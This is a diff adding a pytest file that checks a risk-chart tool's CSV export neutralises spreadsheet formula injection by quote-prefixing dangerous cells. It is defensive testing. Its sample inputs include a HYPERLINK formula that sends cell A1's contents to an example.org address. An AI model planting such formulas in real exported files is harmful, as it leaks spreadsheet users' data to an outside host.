@@ -1,0 +1,59 @@
+"""The spreadsheet export never turns chart text into a live formula."""
+
+import csv
+import io
+import json
+
+import pytest
+from click.testing import CliRunner
+
+from riskchart import tables
+from riskchart.cli import main
+
+from conftest import lint_files
+
+# Text a clerk may paste that a spreadsheet would run: a formula, a sum, a
+# negative calculation, an at-function, and a hyperlink that leaks data.
+FORMULAS = ("=1+1", "+SUM(1,2)", "-2+3", "@SUM(1,2)", '=HYPERLINK("http://example.org/?"&A1,"点此")')
+CHART = (
+    'id: 1\ncategory: 行政裁决\ntitle: "=1+1"\nsteps:\n'
+    '  - name: "=A1"\n    level: 中\n    risks:\n'
+    + "".join(f"      - '{text}'\n" for text in FORMULAS[1:])
+    + '    measures:\n      - "-1 天内办结。"\n    owner: "@受理人"\n'
+)
+
+
+@pytest.mark.parametrize("text, shown", [
+    ("=1+1", "'=1+1"), ("+SUM(1,2)", "'+SUM(1,2)"), ("-2+3", "'-2+3"), ("@SUM(1,2)", "'@SUM(1,2)"),
+    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("故意刁难申请人。", "故意刁难申请人。"), ("1+1", "1+1"),
+    ("", ""), ("a=b", "a=b"),
+])
+def test_spreadsheet_cell(text, shown):
+    assert tables.spreadsheet_cell(text) == shown
+
+
+def register_rows(data: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+
+
+def test_register_csv_has_no_formula_cell(tmp_path):
+    charts = list(lint_files(tmp_path, {"01-a.yaml": CHART}).charts)
+    rows = register_rows(tables.register_csv(charts))
+    assert [row["风险点"] for row in rows] == ["'" + text for text in FORMULAS[1:]]
+    assert {(row["职权名称"], row["环节"], row["责任人"]) for row in rows} == {("'=1+1", "'=A1", "'@受理人")}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell.startswith(tables.FORMULA_STARTS)]
+    # the text itself is untouched: the chart, and every export but the spreadsheet
+    assert charts[0].title == "=1+1" and charts[0].steps[0].risks == FORMULAS[1:]
+    assert [row["风险点"] for row in json.loads(tables.register_json(charts))] == list(FORMULAS[1:])
+
+
+def test_export_csv_has_no_formula_cell(tmp_path):
+    folder = tmp_path / "charts"
+    folder.mkdir()
+    (folder / "01-a.yaml").write_text(CHART, encoding="utf-8")
+    result = CliRunner().invoke(main, ["export", "--format", "csv", str(folder)])
+    assert result.exit_code == 0, result.output
+    rows = register_rows(result.stdout_bytes)
+    assert [row["风险点"] for row in rows] == ["'" + text for text in FORMULAS[1:]]
+    assert rows[0]["职权名称"] == "'=1+1"
